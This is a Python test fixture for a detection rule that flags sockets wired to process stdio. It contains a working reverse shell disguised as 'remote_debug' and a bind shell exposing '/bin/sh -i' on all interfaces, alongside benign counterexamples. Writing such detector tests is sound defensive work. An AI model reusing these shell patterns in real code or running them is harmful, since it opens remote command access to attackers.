import os
import pty
import socket
import subprocess


def remote_debug(host: str, port: int) -> None:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((host, port))
    # ruleid: socket-wired-to-process-stdio
    os.dup2(s.fileno(), 0)
    # ruleid: socket-wired-to-process-stdio
    os.dup2(s.fileno(), 1)
    pty.spawn("/bin/bash")


def serve_console(port: int) -> None:
    server = socket.create_server(("0.0.0.0", port))
    conn, _ = server.accept()
    # ruleid: socket-wired-to-process-stdio
    subprocess.Popen(["/bin/sh", "-i"], stdin=conn, stdout=conn, stderr=conn)


def daemonize() -> None:
    devnull = os.open(os.devnull, os.O_RDWR)
    # ok: socket-wired-to-process-stdio
    os.dup2(devnull, 0)


def echo_server(port: int) -> None:
    server = socket.create_server(("127.0.0.1", port))
    conn, _ = server.accept()
    data = conn.recv(1024)
    # ok: socket-wired-to-process-stdio
    result = subprocess.run(["wc", "-c"], input=data, capture_output=True)
    conn.sendall(result.stdout)
